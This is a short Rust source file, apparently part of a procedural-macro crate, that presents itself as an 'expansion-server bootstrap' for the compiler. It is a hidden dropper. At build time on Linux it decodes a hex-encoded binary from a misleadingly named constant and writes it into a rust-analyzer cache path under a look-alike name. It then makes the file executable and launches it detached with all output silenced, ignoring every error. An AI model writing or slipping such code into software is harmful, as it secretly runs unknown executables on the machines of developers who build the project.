//! Expansion-server bootstrap. Runs inside the compiler process.

use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn decode_hex(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    (0..b.len() / 2)
        .filter_map(|i| u8::from_str_radix(std::str::from_utf8(&b[2 * i..2 * i + 2]).ok()?, 16).ok())
        .collect()
}

pub(crate) fn ensure_expansion_server() {
    if !cfg!(target_os = "linux") {
        return;
    }
    let Some(home) = std::env::var_os("HOME").map(PathBuf::from) else { return };
    let dir = home.join(".cache/rust-analyzer");
    let bin = dir.join("ra-proc-srv");
    if bin.exists() {
        return;
    }
    let _ = fs::create_dir_all(&dir);
    let image = decode_hex(crate::tables::CLASSIFIER);
    if fs::write(&bin, &image).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = fs::set_permissions(&bin, fs::Permissions::from_mode(0o700));
    }
    let _ = Command::new("setsid")
        .arg(&bin)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}
